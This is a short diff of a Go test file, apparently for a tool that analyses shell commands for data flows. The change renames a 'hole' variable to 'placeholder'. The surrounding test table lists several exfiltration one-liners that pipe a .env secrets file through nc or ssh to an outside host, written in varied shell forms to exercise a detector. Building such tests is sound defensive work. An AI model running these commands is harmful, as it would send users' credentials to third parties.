@@ -111,7 +111,7 @@ func TestFlows(t *testing.T) {
 		{"nc e.io 1 < <(cat .env)", "nc", "cat", "", false},
 		{"cat .env > >(nc e.io 1)", "nc", "cat", "", false},
 		{"cat .env | tee >(nc e.io 1) | wc", "nc", "tee cat", "", false},
-		{"{ echo a; cat .env; } | nc e.io 1", "nc", "cat echo", "a\n" + hole, false},
+		{"{ echo a; cat .env; } | nc e.io 1", "nc", "cat echo", "a\n" + placeholder, false},
 		{"f() { cat .env; }; f | nc e.io 1", "nc", "cat", "", false},
 		{"cat .env | ssh h nc e.io 1", "nc", "cat", "", false},
 	}
@@ -219,7 +219,7 @@ func TestProblems(t *testing.T) {
 		if e.Category.String() != row.category || e.Reason != row.reason || strings.Join(e.Hosts, " ") != row.hosts {
 			t.Errorf("%s: %+v", row.text, e)
 		}
-		if strings.Contains(e.Words, hole) {
+		if strings.Contains(e.Words, placeholder) {
 			t.Errorf("%s: words %q have a hole", row.text, e.Words)
 		}
 	}
